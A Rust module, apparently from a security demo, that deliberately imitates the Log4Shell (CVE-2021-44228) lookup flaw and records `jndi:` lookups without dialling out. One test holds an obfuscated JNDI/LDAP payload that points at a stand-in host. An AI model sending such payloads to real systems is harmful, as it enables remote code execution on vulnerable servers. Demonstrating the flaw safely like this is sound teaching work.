//! The portal's logging library, modelled on the one of 2021 (CVE-2021-44228): `${…}` in a logged text is looked up, inside out.
//!
//! A `jndi:` lookup is only noted in [`Lookups`], as proof that it would have been made; nothing is dialled.

use std::sync::{Mutex, PoisonError};

/// The `jndi:` URIs that logged texts asked for, in order.
#[derive(Default)]
pub(crate) struct Lookups {
    asked: Mutex<Vec<String>>,
}

/// Lookups kept; a flood of them must not fill the memory of a demo.
const KEPT: usize = 1000;

/// Rounds of substitution, each resolving the innermost lookups.
const ROUNDS: usize = 32;

impl Lookups {
    pub(crate) fn all(&self) -> Vec<String> {
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// The text as it would stand in the log, with every lookup resolved.
    pub(crate) fn log(&self, text: &str) -> String {
        let mut text = text.to_owned();
        for _ in 0..ROUNDS {
            let Some((before, expression, after)) = innermost(&text) else { break };
            let value = self.resolve(expression);
            text = format!("{before}{value}{after}");
        }
        text
    }

    fn resolve(&self, expression: &str) -> String {
        if let Some((_, default)) = expression.split_once(":-") {
            return default.to_owned();
        }
        match expression.split_once(':') {
            Some(("lower", text)) => text.to_lowercase(),
            Some(("upper", text)) => text.to_uppercase(),
            Some(("jndi", uri)) => {
                let mut asked = self.asked.lock().unwrap_or_else(PoisonError::into_inner);
                if asked.len() < KEPT {
                    asked.push(uri.to_owned());
                }
                "[object of a remote directory]".to_owned()
            }
            _ => format!("[{expression}]"),
        }
    }
}

/// The first `${…}` that holds no other.
fn innermost(text: &str) -> Option<(&str, &str, &str)> {
    let close = text.match_indices('}').find_map(|(close, _)| {
        let (head, _) = text.split_at_checked(close)?;
        head.rfind("${").map(|open| (open, close))
    });
    let (open, close) = close?;
    let (before, rest) = text.split_at_checked(open)?;
    let (lookup, after) = rest.split_at_checked(close - open)?;
    Some((before, lookup.strip_prefix("${")?, after.strip_prefix('}')?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_nested_lookup_is_resolved_from_the_inside() {
        let lookups = Lookups::default();
        lookups.log("agent ${${lower:J}n${::-d}i:ldap://a.example/${upper:x}} end");
        assert_eq!(lookups.all(), ["ldap://a.example/X"]);
    }

    #[test]
    fn plain_text_is_logged_as_it_is() {
        let lookups = Lookups::default();
        assert_eq!(lookups.log("price ${amount and } brace"), "price [amount and ] brace");
        assert_eq!(lookups.log("a } b ${ c"), "a } b ${ c");
        assert!(lookups.all().is_empty());
    }
}
